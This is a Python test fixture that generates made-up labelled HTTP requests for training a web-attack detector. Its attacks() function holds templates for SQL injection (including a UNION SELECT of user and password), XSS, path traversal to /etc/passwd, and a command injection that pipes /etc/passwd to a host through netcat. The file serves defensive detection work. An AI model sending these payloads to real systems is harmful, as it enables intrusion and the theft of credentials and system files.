"""Made-up labelled requests, enough for a tiny model to learn what tests ask of it."""

import random
from urllib.parse import quote

from secmlops.web_attacks.dataset import LabelledRequest
from secmlops.web_attacks.request import HttpRequest

WORDS = [
    "blue",
    "shoes",
    "winter",
    "order",
    "size",
    "cotton",
    "garden",
    "coffee",
    "select",
    "union",
    "of",
    "students",
    "table",
    "lamp",
    "script",
    "writer",
]
PLAIN_WORDS = [
    "amber",
    "basket",
    "candle",
    "dragon",
    "ember",
    "forest",
    "garden",
    "harbor",
    "island",
    "jungle",
    "kettle",
    "ladder",
    "marble",
    "needle",
    "orange",
    "pepper",
    "quartz",
    "ribbon",
    "saddle",
    "temple",
    "umbrella",
    "velvet",
    "walnut",
    "yellow",
    "zephyr",
    "anchor",
    "breeze",
    "copper",
    "desert",
    "engine",
    "feather",
]
"""Words that occur in no attack."""

AGENTS = ("Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "curl/8.5.0")


def request(value: str, path: str = "/search", agent: str = AGENTS[0], body: bytes = b"") -> HttpRequest:
    uri = f"{path}?q={quote(value, safe='')}&page=2"
    headers = (("Host", "shop.test"), ("User-Agent", agent), ("Accept", "*/*"))
    return HttpRequest("POST" if body else "GET", uri, headers=headers, body=body, host="shop.test")


def normals(count: int, seed: int) -> list[LabelledRequest]:
    rng = random.Random(seed)
    made = []
    for _ in range(count):
        text = " ".join(rng.choices(WORDS, k=rng.randint(1, 6))) + rng.choice(["", "", f" {rng.randint(1, 9999)}", "!"])
        made.append(
            LabelledRequest(request(text, rng.choice(["/search", "/a/b", "/cart"]), rng.choice(AGENTS)), "normal")
        )
    return made


def attacks(count: int, seed: int) -> list[LabelledRequest]:
    rng = random.Random(seed)
    made = []
    for _ in range(count):
        number, word = rng.randint(1, 9999), rng.choice(WORDS)
        payload, name = rng.choice(
            [
                (f"{word}' or {number}={number}-- ", "sqli"),
                (f"{number} union select user,password from {word}", "sqli"),
                (f"<script>alert({number})</script>", "xss"),
                (f'"><img src={word} onerror=alert({number})>', "xss"),
                ("../" * rng.randint(2, 6) + f"etc/passwd{word}", "path_traversal"),
                (f"; cat /etc/passwd | nc {word} {number}", "cmd_injection"),
            ]
        )
        made.append(LabelledRequest(request(payload, agent=rng.choice(AGENTS)), "attack", name))
    return made


def records(count: int, seed: int) -> list[LabelledRequest]:
    return normals(count, seed) + attacks(count, seed)
